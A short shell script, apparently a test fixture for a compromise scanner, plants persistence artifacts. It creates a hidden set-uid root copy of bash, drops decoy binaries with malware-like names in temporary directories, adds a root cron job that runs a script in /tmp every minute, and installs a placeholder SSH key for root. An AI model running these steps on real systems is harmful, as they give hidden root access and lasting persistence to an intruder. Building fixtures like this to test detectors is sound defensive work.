# Settles in: a set-uid shell, programs in scratch places, a cron job, a key to log in with.
set -eu
cp /bin/bash /usr/local/bin/.x
chmod 4755 /usr/local/bin/.x
cp /bin/true /tmp/kdevtmpfsi
cp /bin/true /var/tmp/library
chmod 644 /var/tmp/library   # an ELF file by its content alone
printf '#!/bin/sh\n' >/tmp/script   # and a script
echo '* * * * * root /tmp/script' >/etc/cron.d/job
mkdir -m 700 /root/.ssh
echo 'ssh-ed25519 AAAA' >/root/.ssh/authorized_keys
